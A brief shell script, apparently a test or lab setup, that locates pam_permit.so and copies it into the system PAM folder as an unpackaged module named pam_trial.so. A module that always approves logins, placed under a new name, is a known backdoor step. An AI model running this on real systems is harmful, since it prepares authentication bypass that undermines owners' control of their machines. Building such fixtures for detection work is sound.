#!/bin/sh
# A login module of no package.
set -eu
folder=$(dirname "$(find /usr/lib -name pam_permit.so -print -quit)")
cp "$folder/pam_permit.so" "$folder/pam_trial.so"
